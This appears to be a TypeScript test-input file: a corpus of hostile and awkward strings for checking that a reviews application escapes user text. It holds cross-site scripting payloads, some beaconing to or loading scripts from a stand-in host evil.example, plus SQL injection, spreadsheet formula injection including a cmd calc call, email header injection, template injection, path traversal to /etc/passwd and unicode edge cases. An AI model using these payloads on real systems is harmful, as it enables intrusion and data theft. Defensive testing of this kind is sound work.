/** Texts that break out of one place or another where text is carelessly put. All are things a person could type. */

/** What each script does, so that its running is seen: a dialog, a mark on the page and a request. */
const run = "alert(1);window.ran=1;new Image().src='//evil.example/ran'";

const elements = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'video src=x onerror',
  'audio src=x onerror',
  'details open ontoggle',
  'marquee onstart',
  'iframe onload',
  'style onload',
  'object data=x onerror',
  'div style=animation-name:x onanimationstart',
  'a href=# autofocus tabindex=1 onfocus',
].map((start) => `<${start}="${run}">`);

const scripts = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</ScRiPt ><sCrIpT>${run}</sCrIpT>`,
  `<!--<script>${run}</script>-->`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</noscript><script>${run}</script>`,
  `</template><script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<img src=//evil.example/pixel.gif>`,
  `<form action=//evil.example/><button>Sign in</button></form>`,
  `<a href="javascript:${run}">click</a>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
];

const attributes = [
  `" onmouseover="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `" autofocus onfocus="${run}`,
  `"><img src=x onerror="${run}">`,
  `'><img src=x onerror='${run}'>`,
  '`"\'><b>bold</b>',
  `" style="background:url(//evil.example/x)`,
  `x" srcset="//evil.example/x 1x`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:msgbox(1)`,
];

const inScripts = [
  `";${run};//`,
  `';${run};//`,
  `\\";${run};//`,
  `</script>{"@context":"https://evil.example"}<script>`,
  `{"@type":"Review"},{"`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\u2028${run}\u2029//`,
  `*/${run}/*`,
  '`-alert(1)-`',
  `<!--<script>`,
  `{{constructor.constructor('${run}')()}}`,
];

/** In two halves, so that nobody takes it for a template of ours. */
const dollar = ['$', '{7*7}'].join('');

const templates = [
  dollar,
  `[[${dollar}]]`,
  '{{7*7}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{% include "x" %}',
  '{{{raw}}}',
  '@{7*7}',
  '%(name)s %s %d %n',
  '{0} {name}',
  '$1 $& $$ $`',
  '\\1 \\0 \\n \\x41',
];

const queries = [
  `'; drop table reviews; --`,
  `" or ""="`,
  `' union select password from credentials --`,
  `1; select pg_sleep(10)`,
  `\\'; delete from accounts; --`,
  `$$; drop table reviews; $$`,
  `%_%\\_`,
  `{"$gt": ""}`,
];

const spreadsheets = ['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}HYPERLINK("http://evil.example","click")`,
  `${sign}cmd|' /C calc'!A0`,
]);

const headers = [
  'Rae\r\nBcc: eve@evil.example',
  'Rae\nSubject: Invoice',
  'Rae <eve@evil.example>',
  '"Rae" <eve@evil.example>, ',
  'Rae%0d%0aBcc: eve@evil.example',
  '=?utf-8?q?Rae=0ABcc:_eve@evil.example?=',
  'Rae\u0085Bcc: eve@evil.example',
  'Rae\u001b[31m red \u001b]0;title\u0007',
];

const entities = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;amp; &nbsp; &copy &notit; &#0; &#x110000;',
  '&quot;&apos;&#39;',
  '&shy;soft&zwj;join',
  'AT&T & Sons < > " \' /',
];

const writing = [
  'مرحبا، عرض رائع! 5/5',
  'שלום, הופעה נהדרת (באמת) 100%',
  'English then עברית then English 123',
  '\u202Eright to left override\u202C',
  'ends \u202Enever ended',
  '\u2067isolated עברית\u2069 and after',
  'too many ends \u2069\u202C\u2069',
  'zero\u200Bwidth\u200Bspaces',
  'join\u200D\u200Cers',
  'byte\uFEFForder\uFEFFmark',
  'soft\u00ADhyphen\u00ADated',
  'Z̸̢̛͓̗͙̰̘̐̎a̸̡͕̔l̶̰̈́g̷̨̈o̴̧̎',
  'é é (composed and not)',
  'ﬁne ﬂuﬀ Ａｄａ ①②③',
  'İstanbul ıI ẞß ŉ',
  '李小龙的表演非常精彩！',
  '素晴らしいショーでした。また来ます！',
  '정말 멋진 공연이었어요',
  'นักมายากลที่ยอดเยี่ยม',
  'बहुत बढ़िया कार्यक्रम था',
  'Xin chào, buổi diễn tuyệt vời',
  'Привет, отличное шоу',
  '👩‍👩‍👧‍👦 👨🏿‍🚀 🏳️‍🌈 🏴󠁧󠁢󠁷󠁬󠁳󠁿 ❤️‍🔥',
  '🇬🇧🇫🇷🇦 1️⃣ #️⃣ ☺︎☺️',
  '𝕱𝖗𝖆𝖐𝖙𝖚𝖗 𝓼𝓬𝓻𝓲𝓹𝓽 𠜎𠜱',
  '\uD83D lone surrogate \uDE00',
  '⠀⠀ Braille ⠃⠗',
  '﷽ ꧁༺ ornament ༻꧂',
  '‮txt.exe‬ in a file name',
  'line one\nline two\n\n\nline five',
  '\ttab\tand  two  spaces',
  '“Quotes” ‘of’ «every» „kind‟ — – ‒ …',
];

const lengths = [
  'W'.repeat(3_000),
  'ﷺ'.repeat(300),
  '👍'.repeat(400),
  `https://example.test/${'a/'.repeat(300)}`,
  'a\u0301'.repeat(500),
  `${'word '.repeat(800)}end`,
  '-'.repeat(1_000),
  `${'\n'.repeat(50)}after fifty lines`,
];

const styles = [
  'x;background:url(//evil.example/x)',
  'red;}body{display:none}',
  '</style><style>*{display:none}</style>',
  'expression(alert(1))',
  '\\3c script\\3e',
  'url("javascript:alert(1)")',
];

const addresses = [
  '//evil.example',
  '/\\evil.example',
  '../../../etc/passwd',
  'file:///etc/passwd',
  '?returnTo=//evil.example',
  '#"><script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'CON',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '[object Object]',
];

export const payloads: readonly string[] = [
  ...scripts,
  ...elements,
  ...attributes,
  ...inScripts,
  ...templates,
  ...queries,
  ...spreadsheets,
  ...headers,
  ...entities,
  ...writing,
  ...lengths,
  ...styles,
  ...addresses,
];

/** The short form: one text that breaks out of everything at once, and one of every kind of writing. */
export const combinedPayloads: readonly string[] = [
  `</script></title></style></textarea>--><img src=x onerror="${run}">'"><svg onload='${run}'>`,
  `";${run};//\u2028</script><script>${run}</script>{{7*7}}`,
  '＝HYPERLINK("//evil.example") &lt;b&gt; &amp;amp; \u202Eturned',
  'עברית 李小龙 👩‍👩‍👧 Z̸a̸l̸g̸o̸ \u001b[31m\r\nBcc: eve@evil.example',
];
